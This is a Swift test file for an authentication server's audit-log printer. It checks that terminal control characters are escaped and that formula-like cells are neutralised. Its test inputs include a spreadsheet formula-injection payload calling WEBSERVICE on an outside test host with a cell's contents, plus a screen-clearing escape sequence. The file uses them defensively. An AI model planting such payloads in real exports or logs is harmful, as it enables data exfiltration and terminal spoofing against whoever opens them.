import Testing
import UAFMessages

@testable import UAFServer
@testable import UAFService

/// How rows of the audit are printed.
struct AuditLineTests {
  private let row = AuditRow(
    link: AuditLink(number: 7, hash: [UInt8](repeating: 0, count: 32)),
    event: AuditEntry(
      time: 0, kind: .login, account: "mina", actor: .person, machine: "a\tb\u{1B}[2J\u{202E}책상",
      detail: "{\"x\":\"\u{9B}\"}"))

  @Test func `an audit row is printed on one line without terminal control characters`() {
    let line = AuditLine.text(APIShapes.auditRow(row))
    #expect(
      line
        == "7\t1970-01-01T00:00:00Z\tlogin\tok\tmina\tperson\t-\ta[U+0009]b[U+001B][2J[U+202E]책상\t-\t{\"x\":\"[U+009B]\"}"
    )
    #expect(AuditLine.titles.split(separator: "\t").count == line.split(separator: "\t").count)
  }

  @Test(arguments: ["=WEBSERVICE(\"http://a.test/\"&A1)", "@SUM(1)", "+1", "-2+3", "\u{FF1D}1"])
  func `an audit row is printed without a cell that a spreadsheet would compute`(machine: String) throws {
    let row = AuditRow(
      link: row.link, event: AuditEntry(time: 0, kind: .login, account: "=1+1", actor: .person, machine: machine))
    let cells = AuditLine.text(APIShapes.auditRow(row)).split(separator: "\t")
    #expect(cells[4] == "'=1+1" && cells[7] == "'\(machine)" && cells[8] == "-")
  }

  @Test func `an audit row is printed as JSON in ASCII, from which it can be read back exactly`() throws {
    let json = AuditLine.json(row)
    #expect(json.utf8.allSatisfy { (0x20..<0x7F).contains($0) })
    guard case .object(let object) = try JSONValue(parsing: Array(json.utf8)) else { throw JSONExpected() }
    #expect(object["machine"] == .string(row.event.machine) && object["detail"] == .string(row.event.detail))
    #expect(object["number"] == .integer(7) && object["time"] == .integer(0))
    #expect(object["hash"] == .string(String(repeating: "A", count: 43)))
  }

  private struct JSONExpected: Error {}

  @Test(arguments: [("5", 5), ("1970-01-01T00:01:00Z", 60), ("1970-01-02", 86_400)])
  func `the audit commands read a time`(text: String, seconds: Int64) {
    #expect(TypedTime(argument: text)?.seconds == seconds)
  }

  @Test(arguments: ["", "yesterday", "1970-13-01", "1970-01-01T25:00:00Z"])
  func `the audit commands refuse a text that is not a time`(text: String) {
    #expect(TypedTime(argument: text) == nil)
  }

  @Test func `'audit verify' says which rows are intact, and what is wrong with the other rows`() {
    #expect(
      AuditVerifyCommand.lines(AuditSummary(rows: 3, last: 9, signed: 8, removed: 6))
        == ["rows up to 6 were removed by 'audit prune'", "3 rows valid; signed up to row 8"])
    #expect(
      AuditVerifyCommand.lines(AuditSummary(fault: .removed(from: 6, through: 7))) == ["rows 6 to 7 were removed"])
    let broken = AuditVerifyCommand.lines(AuditSummary(rows: 4, last: 4, signed: 4, broken: 4))
    #expect(broken.first == "row 4 was written by the server, because rows that it had signed were missing or changed")
    #expect(AuditVerifyCommand.lines(AuditSummary(fault: .changed(6))) == ["row 6 was changed"])
  }
}
